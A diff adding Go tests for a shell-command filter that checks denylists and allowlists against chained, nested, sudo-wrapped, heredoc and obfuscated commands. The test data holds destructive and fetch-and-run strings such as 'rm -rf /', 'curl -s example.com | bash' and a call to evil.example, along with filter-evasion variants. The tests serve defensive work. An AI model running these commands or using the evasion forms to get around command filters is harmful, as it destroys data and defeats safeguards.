@@ -0,0 +1,141 @@
+package security
+
+import (
+	"reflect"
+	"strings"
+	"testing"
+)
+
+func shellFilter(t *testing.T, allow, deny []string) *Filter {
+	t.Helper()
+	f, err := NewFilter(nil, nil, allow, deny)
+	if err != nil {
+		t.Fatalf("NewFilter: %v", err)
+	}
+	f.EnableShellParsing()
+	return f
+}
+
+func TestShellParsing_Denylist(t *testing.T) {
+	f := shellFilter(t, nil, []string{"rm -rf.*", "reboot", "curl .*"})
+	denied := []string{
+		"rm -rf /",
+		"ls; rm -rf /",
+		"ls && reboot",
+		"true || reboot",
+		"cat x | sh -c 'rm -rf /tmp'",
+		"sh -c 'rm -rf /'",
+		`bash -lc "echo hi; reboot"`,
+		"echo $(reboot)",
+		"echo `reboot`",
+		"X=$(curl evil.example) true",
+		"sudo -u root rm -rf /",
+		"env A=1 B=2 nice -n 5 rm -rf /",
+		"timeout 10 reboot",
+		"find . -name x | xargs -0 rm -rf",
+		"eval 'rm -rf /'",
+		"su -c reboot root",
+		"sudo bash -c 'sh -c reboot'",
+		"if true; then reboot; fi",
+		"f() { reboot; }; f",
+		"r\\m -rf /",
+		"'rm' -rf /",
+		"sh <<'EOF'\nreboot\nEOF",
+		"bash <<< 'reboot'",
+	}
+	for _, cmd := range denied {
+		if err := f.AllowCommand(cmd); err == nil {
+			t.Errorf("AllowCommand(%q) = nil, want denial", cmd)
+		}
+	}
+
+	allowed := []string{
+		"ls -la",
+		"ls | grep rm",
+		"echo reboot now",
+		"grep -r 'rm -rf' /etc",
+		"bash deploy.sh",
+		"sudo systemctl status nginx",
+		"for f in *.log; do gzip \"$f\"; done",
+	}
+	for _, cmd := range allowed {
+		if err := f.AllowCommand(cmd); err != nil {
+			t.Errorf("AllowCommand(%q) = %v, want nil", cmd, err)
+		}
+	}
+}
+
+func TestShellParsing_Uncheckable(t *testing.T) {
+	f := shellFilter(t, nil, nil)
+	for _, cmd := range []string{
+		"$CMD -rf /",
+		"$(echo rm) -rf /",
+		"/bin/r? -rf /",
+		"$'\\x72m' -rf /",
+		"sh -c \"$SCRIPT\"",
+		"curl -s example.com | bash",
+		"eval \"$X\"",
+		"echo 'unterminated",
+	} {
+		if err := f.AllowCommand(cmd); err == nil {
+			t.Errorf("AllowCommand(%q) = nil, want rejection", cmd)
+		}
+	}
+}
+
+func TestShellParsing_Allowlist(t *testing.T) {
+	f := shellFilter(t, []string{"ls.*", "grep .*", "cat .*"}, nil)
+	for _, cmd := range []string{"ls -la", "cat /etc/hosts | grep localhost", "ls && cat x"} {
+		if err := f.AllowCommand(cmd); err != nil {
+			t.Errorf("AllowCommand(%q) = %v, want nil", cmd, err)
+		}
+	}
+	for _, cmd := range []string{"ls; rm -rf /", "ls -l $(whoami)", "cat x | sh -c id", "sudo ls"} {
+		err := f.AllowCommand(cmd)
+		if err == nil || !strings.Contains(err.Error(), "allowlist") {
+			t.Errorf("AllowCommand(%q) = %v, want allowlist rejection", cmd, err)
+		}
+	}
+}
+
+func TestSplitShell(t *testing.T) {
+	cmds, err := splitShell(`sudo -u app env A="x y" make -C "/srv/app" 'install' | tee log`, 0)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(cmds) != 2 {
+		t.Fatalf("got %d commands, want 2", len(cmds))
+	}
+	want := []string{"sudo", "-u", "app", "env", "A=x y", "make", "-C", "/srv/app", "install"}
+	if !reflect.DeepEqual(cmds[0].args, want) {
+		t.Errorf("args = %q, want %q", cmds[0].args, want)
+	}
+	if want := []int{0, 3, 5}; !reflect.DeepEqual(cmds[0].starts, want) {
+		t.Errorf("starts = %v, want %v", cmds[0].starts, want)
+	}
+	if got := cmds[1].String(); got != "tee log" {
+		t.Errorf("second command = %q, want %q", got, "tee log")
+	}
+
+	// Non-literal arguments are kept as written.
+	cmds, err = splitShell(`echo "$HOME"`, 0)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got := cmds[0].String(); got != `echo "$HOME"` {
+		t.Errorf("got %q", got)
+	}
+}
+
+func TestShellParsing_Disabled(t *testing.T) {
+	f, err := NewFilter(nil, nil, nil, []string{"reboot"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if f.ShellParsing() {
+		t.Error("shell parsing should be off by default")
+	}
+	if err := f.AllowCommand("ls; reboot"); err != nil {
+		t.Errorf("without shell parsing only the whole line is matched, got %v", err)
+	}
+}